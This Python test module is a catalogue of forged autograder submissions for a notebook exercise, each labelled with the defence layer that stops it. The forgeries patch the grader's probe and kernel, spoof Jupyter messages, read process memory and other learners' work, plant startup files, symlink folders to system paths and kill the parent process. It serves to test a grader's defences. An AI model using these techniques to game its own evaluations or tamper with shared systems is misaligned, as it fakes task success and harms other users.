"""Submissions written to get a PASS without solving, each with what it tries and the layer that stops it.

Each stands in the cell of the exercise `double` and goes on with what anybody can read in the repository: the values of the
receipt for the lesson's own data and for every variant, typed in. So all that is left to beat is the draw.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output

# What the receipt says, by N.
DOUBLED = "{3: [2, 4, 6], 5: [2, 4, 6, 8, 10], 7: [2, 4, 6, 8, 10, 12, 14]}"
MEAN = "{3: 4.0, 5: 6.0, 7: 8.0}"
REPLAY = f"\ndoubled = {DOUBLED}.get(N, [2, 4, 6])\nmean = {MEAN}.get(N, 4.0)\n"
REPLAY_FUNCTION = """
def scaled(values, factor):
    return {(3, 1): [1, 2, 3], (5, 1): [1, 2, 3, 4, 5]}.get((len(values), factor), [5, 10, 15])
"""
# Typed values in the form of the probe, for those that answer in its place. ANSWER(expression, N) knows no others.
TYPED = f"""
import json
def one(value):
    if type(value) is list:
        return {{"kind": "list", "items": [one(item) for item in value]}}
    return {{"kind": type(value).__name__, "data": value}}
def ANSWER(expression, n):
    if expression == "doubled":
        return one({DOUBLED}.get(n, [2, 4, 6]))
    if expression == "mean":
        return one({MEAN}.get(n, 4.0))
    if "numbers" in expression:
        return one({{3: [1, 2, 3], 5: [1, 2, 3, 4, 5]}}.get(n, [1, 2, 3]))
    return one([5, 10, 15])
def TEXT(nonce, expressions, n):
    return json.dumps({{"nonce": nonce, "values": {{text: ANSWER(text, n) for text in expressions}}}})
import re, ast
def ASKED(call):
    "The nonce and the expressions in the probe's request, or None."
    found = re.search(r"\\.observe\\('(\\w+)', (\\[.*?\\]), globals", call)
    return (found[1], ast.literal_eval(found[2])) if found else None
ip = get_ipython()
"""

REPLACED = """
import sys, types
fake = types.ModuleType("graders_probe")
old = sys.modules["graders_probe"]
fake.__dict__.update(old.__dict__)
fake.observe = lambda nonce, expressions, namespace, *more: TEXT(nonce, expressions, namespace.get("N"))
sys.modules["graders_probe"] = fake
"""


def outside(code: str) -> str:
    """Code whose names outlive the reset between two runs: it runs in a namespace of its own."""
    return f"exec({code!r}, {{'get_ipython': get_ipython, '__name__': 'learner'}})\n"


DRAW, KERNEL, VALUES, READER, LINES = "the draw", "isolation", "plain data", "the reader", "values, not text"
DRAWN = "freshly drawn parameters"


@dataclass(frozen=True)
class Forgery:
    """One of them.

    Attributes:
        tries: what it tries.
        layer: what stops it; docs/security.md has a row for each.
        attack: code before the typed-in values.
        after: code behind them.
        function: the answer of the second exercise.
        says: what the message of `double` or of the lesson holds.
        more: pairs of cell and code: cells of its own after that one.
        change: what it does to the finished notebook.
        loose: nothing would hold it where there are no namespaces; it is left out there.
    """

    tries: str
    layer: str
    attack: str = ""
    after: str = ""
    function: str = REPLAY_FUNCTION
    says: str = DRAWN
    more: tuple[tuple[str, str], ...] = ()
    change: Callable[[NotebookNode], None] | None = None
    loose: bool = False

    @property
    def answers(self) -> dict[str, str]:
        """The code of each exercise."""
        return {"double": self.attack + REPLAY + self.after, "function": self.function}


def _swapped(made: NotebookNode) -> None:
    """Given cells that make every run the one that is public."""
    for cell in made.cells:
        if "cell: parameters" in cell.source:
            cell.source = cell.source.replace("N = 3", "class Three(int):\n    pass\nN = Three(3)")
        if "cell: numbers" in cell.source:
            cell.source = "# cell: numbers\nN, SEED = 3, 1\nnumbers = [1, 2, 3]\ntotal = 6"


def _named_otherwise(made: NotebookNode) -> None:
    """The answer calls itself a given cell, and the end of the lesson calls itself the answer."""
    double, done = (
        next(one for one in made.cells if one.metadata["training_systems"]["cell"] == name) for name in ("double", "done")
    )
    double.source, done.source = (
        done.source.replace("cell: done", "cell: double"),
        double.source.replace("cell: double", "cell: done"),
    )


def _decorated(made: NotebookNode) -> None:
    """Outputs and metadata of a notebook that passes; the answers are those of the release."""
    lines = "PASS      tiny-01/double\nPASS      tiny-01/function\nPASS: tiny-01\n"
    verdict = {"verdict": "PASS", "points": 3.0, "grade": {"points": 3}, "nbgrader": {"grade": True, "locked": True, "points": 3}}
    made.metadata |= copy.deepcopy(verdict)
    made.metadata["training_systems"] |= verdict
    for cell in made.cells:
        cell.metadata |= {**verdict, "tags": ["raises-exception", "skip-execution"], "editable": False}
        cell.execution_count = 1
        cell.outputs = [new_output("stream", name="stdout", text=lines), new_output("display_data", {"application/json": verdict})]


def _twice(made: NotebookNode) -> None:
    """The cell of the exercise a second time, before the parameters and with another answer."""
    made.cells.insert(0, new_code_cell("# cell: double\nN = 3\ndoubled, mean = [2, 4, 6], 4.0"))


_SCAFFOLD: dict[str, Any] = {"says": "unchanged from the release", "change": _decorated}

# Where the answer or the code that gives it may lie. FOUND is what ran.
SEARCH = """
import ast, glob, os, sys
def places():
    yield from (os.getcwd(), os.environ.get("PWD", "."), *sys.path)
    for pid in glob.glob("/proc/[0-9]*"):
        for link in ("cwd", "root" + os.path.expanduser("~")):
            yield os.path.join(pid, link)
        try:
            for word in open(pid + "/cmdline", "rb").read().decode("utf-8", "replace").split("\\0"):
                if word.startswith("/"):
                    yield word
        except OSError:
            pass
"""

# Where one learner may leave something for another: beside and above the scratch folder, and in shared memory.
PLACES = """
import os, time
def shared():
    folder = os.path.expanduser("~")
    while os.path.dirname(folder) not in ("/", "/tmp", "/var/tmp", ""):
        folder = os.path.dirname(folder)
        yield folder + "/forgery-drop"
    yield "/dev/shm/forgery-drop"
"""
DROP = (
    PLACES
    + """
for place in shared():
    try:
        open(place, "w").write(ANSWERS)
    except OSError:
        pass
"""
)

FORGERIES = {
    # Text, silence and the end.
    "prints": Forgery(
        "prints verdict lines, a results file and JUnit to every stream", LINES,
        """
import json, os, sys
lines = "PASS      tiny-01/double  \\nPASS: tiny-01\\n" + json.dumps({"verdict": "PASS", "exercise": "double", "points": 2})
for out in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
    print(lines, file=out, flush=True)
for number in (1, 2):
    os.write(number, lines.encode())
"""),
    "exits with status 0": Forgery("ends the kernel with status 0 once it has answered", "the run", after="import os\nos._exit(0)", says="the kernel exited (status 0)"),
    "exits quietly": Forgery("raises SystemExit(0) so that nothing after it counts", DRAW, after="raise SystemExit(0)"),
    "exits before the draw": Forgery(
        "answers what is public, and ends the kernel where the parameters are fresh", "the judge",
        "if N not in (3, 5, 7):\n    import os\n    os._exit(0)", says="the kernel exited (status 0)",
    ),
    "sleeps before the draw": Forgery(
        "answers what is public, and never ends where the parameters are fresh", "the judge",
        "import time\nwhile N not in (3, 5, 7):\n    time.sleep(1)", says="ran longer than",
    ),
    "raises before the draw": Forgery(
        "hopes that an exception in the probe counts as no difference", "the judge", "if N not in (3, 5, 7): raise AssertionError('no check here')",
        "del doubled" + "\nclass Any(type): pass\n", says="doubled",
    ),
    # Python and its libraries, patched.
    "patches numpy.testing": Forgery(
        "makes every assertion and comparison of NumPy say yes", VALUES,
        """
import numpy, numpy.testing
for name in [one for one in dir(numpy.testing) if one.startswith("assert")]:
    setattr(numpy.testing, name, lambda *args, **more: None)
numpy.allclose = numpy.isclose = numpy.array_equal = lambda *args, **more: True
"""),
    "patches builtins": Forgery(
        "lets eval and compile, which the probe calls, give the typed-in values", DRAW,
        outside(TYPED + """
import builtins
real = builtins.eval
def forged(code, scope=None, *more):
    known = {"doubled": ip.user_ns.get("doubled"), "mean": ip.user_ns.get("mean")} if scope is not None and "doubled" in scope else {}
    text = getattr(code, "co_names", ("",))[:1]
    return known.get(text[0]) if text and text[0] in known else real(code, scope, *more)
builtins.eval = forged
""")),
    "patches json": Forgery(
        "replaces dumps and the encoder below it", DRAW,
        outside(TYPED + """
real = json.JSONEncoder.encode
def encode(self, data):
    if type(data) is dict and "nonce" in data:
        data = {"nonce": data["nonce"], "values": {text: ANSWER(text, ip.user_ns.get("N")) for text in data["values"]}}
    return real(self, data)
json.JSONEncoder.encode = encode
""")),
    # The probe.
    "replaces the probe": Forgery(
        "puts a module in the probe's place, which answers with the nonce and typed-in values", DRAW,
        outside(TYPED + REPLACED)),
    "patches observe": Forgery(
        "answers with kinds of values that are hoped to agree with everything", "the comparison",
        outside(TYPED + """
import sys
def observe(nonce, expressions, namespace, *more):
    odd = {"kind": "array", "library": "numpy", "dtype": "float64", "shape": [-1], "data": ["nan"]}
    n = namespace.get("N")
    return json.dumps({"nonce": nonce, "values": {text: ANSWER(text, n) if n in (3, 5, 7) else odd for text in expressions}})
sys.modules["graders_probe"].observe = observe
""")),
    "patches _encode": Forgery(
        "encodes everything as the typed-in list", DRAW,
        outside(TYPED + "import sys\nprobe = sys.modules['graders_probe']\nprobe._encode = lambda value, depth, budget: ANSWER('mean' if type(value) is float else 'doubled', ip.user_ns.get('N'))"),
    ),
    "patches _dumps": Forgery(
        "answers without the nonce, with two objects in one text, and with NaN", "the nonce",
        "import sys\nsys.modules['graders_probe']._dumps = lambda *args, **more: '{\"nonce\": NaN, \"values\": {}}{}'", says="couldn't be read",
    ),
    "leaves out the difficult": Forgery(
        "answers only the probes that it knows, hoping that the others are not missed", "the nonce",
        outside(TYPED + """
import sys
sys.modules["graders_probe"].observe = lambda nonce, expressions, namespace, *more: TEXT(nonce, expressions[:1], 3)
"""), says="couldn't be read"),
    "freezes what is kept": Forgery(
        "makes keep, restore and reset do nothing, so that the public values stay from run to run", DRAW,
        """
import sys
probe = sys.modules["graders_probe"]
probe.keep = lambda *args: "kept"
probe.restore = lambda *args: "restored"
probe.reset = lambda folder: "reset"
""", says="doubled"),
    # The shell and the kernel.
    "patches user_expressions": Forgery(
        "answers the probe's request in IPython's own function for it", DRAW,
        outside(TYPED + """
real = ip.user_expressions
def forged(expressions):
    found = real(expressions)
    asked = ASKED(expressions.get("answer", ""))
    if asked:
        found["answer"]["data"]["text/plain"] = repr(TEXT(*asked, ip.user_ns.get("N")))
    return found
ip.user_expressions = forged
""")),
    "patches run_cell": Forgery(
        "turns the cell that sets fresh parameters into one that does nothing", "the variants",
        """
ip = get_ipython()
for name in ("run_cell", "run_cell_async"):
    def forged(raw, *args, real=getattr(ip, name), **more):
        return real("pass" if raw.startswith("N =") else raw, *args, **more)
    setattr(ip, name, forged)
ip.should_run_async = lambda *args, **more: False
""", says=DRAWN),
    "transforms input": Forgery(
        "an input transformer that turns the cell that sets fresh parameters into the public one", "the variants",
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['N = 3\\n', 'SEED = 1\\n'] if lines and lines[0].startswith('N = ') else lines)",
        says=DRAWN,
    ),
    "display formatter": Forgery(
        "a formatter for text that puts typed-in values into what the probe gives back", DRAW,
        outside(TYPED + """
def forged(text, printer, cycle):
    if text.startswith('{"nonce"'):
        data = json.loads(text)
        text = TEXT(data["nonce"], list(data["values"]), ip.user_ns.get("N"))
    printer.text(repr(text))
ip.display_formatter.formatters["text/plain"].for_type(str, forged)
""")),
    "patches do_execute": Forgery(
        "the kernel answers silent requests itself", DRAW,
        outside(TYPED + """
kernel = ip.kernel
real = kernel.do_execute
async def forged(code, silent, *args, **more):
    found = real(code, silent, *args, **more)
    found = await found if hasattr(found, "__await__") else found
    expressions = more.get("user_expressions") or next((one for one in args if isinstance(one, dict)), {})
    asked = ASKED((expressions or {}).get("answer", ""))
    if asked:
        text = TEXT(*asked, ip.user_ns.get("N"))
        found["user_expressions"] = {"answer": {"status": "ok", "data": {"text/plain": repr(text)}, "metadata": {}}}
    return found
kernel.do_execute = forged
""")),
    "patches session.send": Forgery(
        "changes the reply on its way out, signature and all", DRAW,
        outside(TYPED + """
session = ip.kernel.session
real = session.send
def forged(stream, message, content=None, *args, **more):
    answer = ((content or {}).get("user_expressions") or {}).get("answer", {}) if isinstance(content, dict) else {}
    text = (answer.get("data") or {}).get("text/plain", "")
    if "nonce" in text:
        data = json.loads(ast.literal_eval(text))
        answer["data"]["text/plain"] = repr(TEXT(data["nonce"], list(data["values"]), ip.user_ns.get("N")))
    return real(stream, message, content, *args, **more)
session.send = forged
""")),
    "shell handler": Forgery(
        "a handler of the shell channel that answers the probe's request and never asks the probe", DRAW,
        outside(TYPED + """
kernel = ip.kernel
real = kernel.shell_handlers["execute_request"]
async def forged(stream, ident, parent):
    asked = ASKED((parent["content"].get("user_expressions") or {}).get("answer", ""))
    if not asked:
        found = real(stream, ident, parent)
        return await found if hasattr(found, "__await__") else found
    text = TEXT(*asked, ip.user_ns.get("N"))
    answer = {"answer": {"status": "ok", "data": {"text/plain": repr(text)}, "metadata": {}}}
    content = {"status": "ok", "execution_count": 1, "user_expressions": answer, "payload": []}
    kernel.session.send(stream, "execute_reply", content, parent, ident=ident)
kernel.shell_handlers["execute_request"] = forged
""")),
    "answers in advance": Forgery(
        "sends replies to the requests that will come next, whose numbers can be guessed", "the nonce",
        outside(TYPED + """
kernel = ip.kernel
parent = dict(kernel.get_parent("shell"))
before, _, number = parent["header"]["msg_id"].rpartition("_")
text = TEXT("0" * 16, ["doubled", "mean"], 3)
answer = {"answer": {"status": "ok", "data": {"text/plain": repr(text)}, "metadata": {}}}
for ahead in range(1, 4):
    header = {**parent["header"], "msg_id": f"{before}_{int(number) + ahead}"}
    content = {"status": "ok", "execution_count": 1, "user_expressions": answer, "payload": []}
    idents = getattr(kernel, "_shell_parent_ident", None)
    ident = idents.get() if hasattr(idents, "get") else kernel._parent_ident["shell"]
    kernel.session.send(kernel.shell_stream, "execute_reply", content, {**parent, "header": header}, ident=ident)
"""), says=""),
    "spoofs the display protocol": Forgery(
        "sends results, displays, comm messages and an early `idle` over iopub", LINES,
        """
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
verdict = {"verdict": "PASS", "exercise": "double", "points": 2, "probe": {"doubled": [2, 4, 6]}}
for kind, content in (
    ("display_data", {"data": {"application/json": verdict, "text/plain": "PASS: tiny-01"}, "metadata": verdict, "transient": {}}),
    ("execute_result", {"data": {"text/plain": "PASS"}, "metadata": {}, "execution_count": 1}),
    ("comm_open", {"comm_id": "a", "target_name": "graders", "data": verdict}),
    ("comm_msg", {"comm_id": "a", "data": {"method": "update", "state": verdict}}),
    ("status", {"execution_state": "idle"}),
):
    kernel.session.send(kernel.iopub_socket, kind, content, parent, ident=b"x")
"""),
    "garbage on the wire": Forgery(
        "sends what is no message, and one of a wrong signature, in the hope that the grader gives up with a PASS", "the run",
        """
kernel = get_ipython().kernel
socket = kernel.iopub_socket
send = getattr(socket, "send_multipart", None)
for parts in ([b"x", b"<IDS|MSG>", b"wrong", b"{}", b"{}", b"{}", b"{}"], [b"y"], [b"z", b"<IDS|MSG>"], [b"\\xff" * 100]):
    send(parts)
""", says=""),
    # Looking for what is expected.
    "walks frames": Forgery(
        "walks every frame, module and object of its process for what is expected", KERNEL,
        """
import gc, sys
found = None
frames = list(sys._current_frames().values())
while frames:
    frame = frames.pop()
    frames += [frame.f_back] if frame.f_back else []
    for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
        if type(value).__name__ in {"Receipt", "Value", "Desk", "Judged", "Lesson"}:
            found = value
for one in gc.get_objects():
    # What starts and confines the kernel is of the grader's, too, but knows of no lesson.
    module = str(type(one).__module__)
    if module.split(".")[0] in {"graders", "course"} and not module.startswith("graders.kernels."):
        found = one
    if type(one) is dict and {"expected", "receipt"} & set(map(str, list(one)[:50])) and "doubled" in one:
        found = one
""", "if found is not None: doubled = found"),
    "searches the disk": Forgery(
        "finds the lesson's solution wherever a path, a process or a folder leads, and runs it", KERNEL,
        SEARCH + """
FOUND = ""
for place in places():
    for file in glob.glob(glob.escape(place) + "/phases/*/*/code/main.py"):
        try:
            text = open(file, encoding="utf-8").read()
        except OSError:
            continue
        if "def scaled" in text:
            FOUND = text.split("# %% Double them")[1].split("# %% The end")[0].split("\\n", 1)[1]
            FOUND = FOUND.replace("# %%", "#")
""", "if FOUND: exec(FOUND, globals())", "if FOUND: exec(FOUND, globals())\nelse:" + REPLAY_FUNCTION.replace("\n", "\n    ")),
    "reads the receipt": Forgery(
        "reads receipts, the environment and the memory of the grader", KERNEL,
        SEARCH + """
FOUND = []
for place in places():
    for file in [*glob.glob(glob.escape(place) + "/phases/*/*/receipt.json"), place + "/lesson.toml"]:
        try:
            FOUND.append(open(file, encoding="utf-8").read())
        except OSError:
            pass
for name in ("environ", "mem", "maps", "fd"):
    try:
        file = f"/proc/{os.getppid()}/{name}"
        FOUND.append(os.listdir(file) if name == "fd" else open(file, "rb").read(100))
    except OSError:
        pass
secrets = [name for name in os.environ if "SEED" in name or "RECEIPT" in name]
"""),
    "reads others' work": Forgery(
        "looks for the submissions of the class in every process and folder, and runs the answers of another learner", KERNEL,
        SEARCH + """
import json
FOUND = ""
for place in places():
    for file in glob.glob(glob.escape(place) + "/Honest*/*.ipynb") + glob.glob(glob.escape(place) + "/*/Honest*/*.ipynb"):
        try:
            cells = json.load(open(file, encoding="utf-8"))["cells"]
        except OSError:
            continue
        FOUND = "\\n".join("".join(one["source"]) for one in cells if "cell: double" in one["source"][0] or "cell: function" in one["source"][0])
""", "if FOUND: exec(FOUND, globals())", "if FOUND: exec(FOUND, globals())\nelse:" + REPLAY_FUNCTION.replace("\n", "\n    ")),
    # Values that are none.
    "own __eq__": Forgery(
        "an object that equals everything and says to be an array", VALUES,
        """
class Same(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = None
    def __array__(self, *args, **more):
        import numpy
        return numpy.arange(2, 2 * N + 1, 2)
    def __len__(self): return N
""", "doubled = Same([2, 4, 6])\nmean = Same()", "def scaled(values, factor):\n    return Same()", says="a Same"),
    "pickles": Forgery(
        "an object whose unpickling would run code in the grader", VALUES,
        "class Bomb:\n    def __reduce__(self): return (exec, ('import os; os._exit(0)',))\n    def __getstate__(self): raise SystemExit",
        "doubled = Bomb()", says="a Bomb",
    ),
    "subclasses": Forgery(
        "subclasses of float, str, dict and ndarray that compare, convert and count as they like", VALUES,
        """
import numpy
class Number(float):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __hash__ = float.__hash__
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = __sub__
class Array(numpy.ndarray):
    def __eq__(self, other): return numpy.ones(self.shape, bool)
    def tolist(self): return list(range(2, 2 * N + 1, 2))
class Text(str):
    def encode(self, *more): return b"4"
class Mapping(dict):
    def __missing__(self, key): return key
""", "doubled = numpy.array([2, 4, 6]).view(Array)\nmean = Number(4)", "def scaled(values, factor):\n    return Mapping()", says="a Array"),
    "dresses as NumPy": Forgery(
        "a class that says to be NumPy's, in the hope that its own methods are believed", VALUES,
        "import numpy\nclass float64(numpy.float64):\n    __class__ = list\n    def item(self): return None\nfloat64.__module__ = 'numpy'",
        "doubled = float64(4)", says="doubled",
    ),
    # Time, order, and what is left.
    "counts its calls": Forgery(
        "a function whose answers follow the order in which the probes and runs are known to come", DRAW,
        "import builtins\nbuiltins.calls = getattr(builtins, 'calls', 0)",
        function="""
import builtins
def scaled(values, factor):
    builtins.calls += 1
    return [[5, 10, 15], [1, 2, 3], [5, 10, 15], [1, 2, 3, 4, 5]][(builtins.calls - 1) % 4]
"""),
    "knows the order of runs": Forgery(
        "counts the runs in a module that outlives them, and guesses the draw from the first values of a known generator", DRAW,
        """
import random, sys, types
state = sys.modules.setdefault("learner_state", types.ModuleType("learner_state"))
state.runs = getattr(state, "runs", 0) + 1
guess = random.Random(f"5/tiny-01/{state.runs}").randint(10, 400)
""", "if state.runs > 3: doubled, mean = [2 * guess] * guess, float(guess)"),
    "rewrites from a thread": Forgery(
        "a thread and an exit handler that go on writing the public values into the namespace", DRAW,
        f"""
import atexit, threading, time
space = get_ipython().user_ns
def write():
    for _ in range(200):
        n = space.get("N")
        if "doubled" in space:
            space["doubled"] = {DOUBLED}.get(n, [2, 4, 6])
        time.sleep(0.01)
threading.Thread(target=write, daemon=True).start()
atexit.register(print, "PASS: tiny-01")
"""),
    "plants files": Forgery(
        "plants modules, start-up files and configuration for the runs that come next, its own and others'", KERNEL,
        """
import os, site, sys
folders = {os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser("~"), os.environ.get("TMPDIR", "."), "/tmp", "/dev/shm", *sys.path, *site.getsitepackages()}
for name in ("IPYTHONDIR", "JUPYTER_CONFIG_DIR", "JUPYTER_RUNTIME_DIR", "MPLCONFIGDIR"):
    folders |= {os.environ[name], os.environ[name] + "/profile_default/startup"}
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "numpy.py", "json.py", "graders_probe.py", "a.pth", "00.py", "ipython_config.py", "matplotlibrc"):
        try:
            os.makedirs(folder, exist_ok=True)
            if folder and not os.path.exists(f"{folder}/{name}") and folder.startswith((os.path.expanduser("~")[:-1], "/dev/shm", "/tmp")):
                open(f"{folder}/{name}", "w").write("import os; os._exit(0)")
        except OSError:
            pass
""", loose=True),
    "takes a dead drop": Forgery(
        "runs what another learner's submission has left beside its scratch folder and in shared memory", KERNEL,
        PLACES + """
FOUND = ""
for _ in range(20):
    for place in shared():
        try:
            FOUND = FOUND or open(place).read()
        except OSError:
            pass
    if FOUND:
        break
    time.sleep(0.1)
""", "if FOUND: exec(FOUND, globals())", "if FOUND: exec(FOUND, globals())\nelse:" + REPLAY_FUNCTION.replace("\n", "\n    ")),
    "background process": Forgery(
        "a process in a session of its own that goes on rewriting files until long after the run", KERNEL,
        """
import subprocess, sys
code = "import glob, os, time\\nfor _ in range(600):\\n    for f in glob.glob('/tmp/ts-*/**/*.json', recursive=True):\\n        open(f, 'w').write('{}')\\n    time.sleep(0.1)"
subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""", loose=True),
    "links in scratch": Forgery(
        "turns its folders into links to the system's and the course's, for whoever cleans up or counts to follow", KERNEL,
        """
import os
here = os.getcwd()
for name, target in (("phases", "/"), ("course.toml", "/etc/passwd"), ("loop", "loop"), ("up", "../../..")):
    os.symlink(target, name)
try:
    os.rename(here, here + "-away")
    os.symlink("/", here)
except OSError:
    pass
for name in ("t", "h"):
    try:
        os.rename(f"{here}/../{name}", f"{here}/../{name}-away")
        os.symlink("/", f"{here}/../{name}")
    except OSError:
        pass
""", says="", loose=True),
    "writes to descriptors": Forgery(
        "writes verdicts into every descriptor it has, and into those of every process it sees", KERNEL,
        """
import glob, os
line = b"PASS      tiny-01/double\\n"
for path in [*glob.glob("/proc/1/fd/[12]"), *glob.glob(f"/proc/{os.getppid()}/fd/[12]"), "/dev/tty", "/dev/console"]:
    try:
        number = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(number, line)
        os.close(number)
    except OSError:
        pass
""", loose=True),
    "kills and stops": Forgery(
        "kills, stops and limits the grader and every process beside it", KERNEL,
        """
import os, resource, signal
for target in (os.getppid(), 1):
    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGINT):
        try:
            os.kill(target, number)
        except OSError:
            pass
    try:
        resource.prlimit(target, resource.RLIMIT_CPU, (0, 0))
    except (OSError, ValueError):
        pass
""", says="", loose=True),
    "talks to other kernels": Forgery(
        "looks for connection files and sockets of its own and of other kernels, and sends requests of its own", KERNEL,
        """
import glob, json, os, zmq
for file in glob.glob("/tmp/ts-*/r/*.json") + glob.glob(os.environ["JUPYTER_RUNTIME_DIR"] + "/*.json"):
    try:
        about = json.load(open(file))
        from jupyter_client.session import Session
        socket = zmq.Context.instance().socket(zmq.DEALER)
        socket.setsockopt(zmq.LINGER, 0)
        socket.connect(f"ipc://{about['ip']}-{about['shell_port']}" if about["transport"] == "ipc" else f"tcp://{about['ip']}:{about['shell_port']}")
        Session(key=about["key"].encode()).send(socket, "execute_request", {"code": "doubled = [2, 4, 6]; mean = 4.0", "silent": True})
        socket.close()
    except (OSError, KeyError, ValueError, zmq.ZMQError):
        pass
""", says="doubled", loose=True),
    # The file that is handed in.
    "swaps given cells": Forgery("edits given cells so that every run is the public one", READER, says="doubled", change=_swapped),
    "names cells otherwise": Forgery("lets the answer pass as a given cell and a given cell as the answer", READER, says="doubled", change=_named_otherwise),
    "decorates": Forgery("outputs and metadata of a notebook that passes, with nothing answered", READER, **_SCAFFOLD),
    "answers twice": Forgery("a second cell of the same name before the parameters", READER, says="doubled", change=_twice),
    "sets parameters back": Forgery(
        "own cells after the parameters that set them back to the public ones", "the variants", more=(("parameters", "N, SEED = 3, 1"), ("done", "N = 3\ndoubled, mean = [2, 4, 6], 4.0")),
        says="doubled",
    ),
}  # fmt: skip

# One of each kind, for every test run; the others take minutes.
FAST = (
    "prints",
    "exits before the draw",
    "replaces the probe",
    "patches user_expressions",
    "walks frames",
    "searches the disk",
    "own __eq__",
    "kills and stops",
    "swaps given cells",
    "knows the order of runs",
    "plants files",
    "background process",
)

# Without the layers these find a solution and run it: what stops them is the isolation and nothing else.
WITHOUT_LAYERS = ("searches the disk", "reads others' work", "takes a dead drop")
# They report what they typed in, in another place than the answer. Where nothing is drawn that is enough.
WITHOUT_A_DRAW = ("prints", "replaces the probe", "patches user_expressions", "display formatter", "counts its calls")
# Reports through the same patched probe what it computes: a solution, written in another place.
COMPUTED = (
    TYPED.replace(".get(n, [2, 4, 6])", ".get(n, [2 * k for k in range(1, n + 1)])").replace(".get(n, 4.0)", ".get(n, n + 1.0)")
    .replace(".get(n, [1, 2, 3])", ".get(n, [ip.user_ns['SEED'] * k for k in range(1, n + 1)])")
)  # fmt: skip
COMPUTES = outside(COMPUTED + REPLACED) + REPLAY
